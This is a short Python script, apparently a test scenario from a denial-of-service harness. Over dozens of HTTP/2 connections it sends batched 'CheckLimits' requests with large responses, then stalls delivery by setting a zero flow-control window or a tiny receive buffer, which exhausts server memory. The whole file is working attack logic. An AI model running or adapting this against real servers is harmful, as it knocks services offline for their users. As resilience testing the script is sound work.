"""Batches of 37 KB whose answers have 600 KB. The attacker closes the flow-control window or reads
nothing, so the server cannot send the answers.
"""

from attacker import message, send, settings

CONNECTIONS, STREAMS, CHECKS = 20, 20, 1000  # CONNECTIONS of each kind


def attack(attacker):
    check = message(endpoint="/wide", user="")
    body = (b"\x0a" + bytes((len(check),)) + check) * CHECKS
    calls = [attacker.call(stream, body, b"CheckLimits") for stream in range(1, 2 * STREAMS, 2)]
    windows = attacker.many(CONNECTIONS, lambda: attacker.http2(
        first=settings(initial_window=0), patience=0.05))
    sockets = attacker.many(CONNECTIONS, lambda: attacker.http2(
        first=settings(initial_window=2**31 - 1), patience=0.05, receive_buffer=4096))
    open_ = windows + sockets
    for call in calls:
        open_ = [connection for connection in open_
                 if not attacker.stopped.is_set() and send(connection, call)]
    attacker.over(None)
